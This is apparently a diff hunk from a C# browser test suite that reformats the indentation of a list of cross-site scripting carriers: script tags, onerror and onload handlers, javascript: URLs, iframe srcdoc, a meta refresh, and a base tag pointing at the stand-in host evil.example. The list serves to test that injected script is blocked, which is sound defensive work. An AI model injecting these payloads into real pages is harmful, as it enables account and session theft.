@@ -16,13 +16,13 @@ public sealed class ScriptTests(SharedPostgres postgres, Chromium chromium)
     private static readonly string[] Carriers =
     [
         $"<script>{Run}</script>", $"<img src=x onerror={Run}>", $"<svg onload={Run}>", $"<svg><script>{Run}</script></svg>",
-            $"<body onload={Run}>",
+        $"<body onload={Run}>",
         $"<iframe srcdoc='<script>parent.{Run}</script>'></iframe>", $"<iframe src=javascript:parent.{Run}>",
-            $"<a href=javascript:{Run}>x</a>", $"<details open ontoggle={Run}>x</details>",
+        $"<a href=javascript:{Run}>x</a>", $"<details open ontoggle={Run}>x</details>",
         $"<input autofocus onfocus={Run}>", $"<video><source onerror={Run}></video>", $"<audio src=x onerror={Run}>",
-            $"<marquee onstart={Run}>x</marquee>", $"<math><mtext><img src=x onerror={Run}></mtext></math>",
+        $"<marquee onstart={Run}>x</marquee>", $"<math><mtext><img src=x onerror={Run}></mtext></math>",
         $"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={Run}>", $"<object data=javascript:{Run}>",
-            $"<form><button formaction=javascript:{Run} autofocus>", $"<template><img src=x onerror={Run}></template>",
+        $"<form><button formaction=javascript:{Run} autofocus>", $"<template><img src=x onerror={Run}></template>",
         $"<base href=//evil.example/><script src=x></script>", $"<meta http-equiv=refresh content=0;url=javascript:{Run}>",
     ];
 
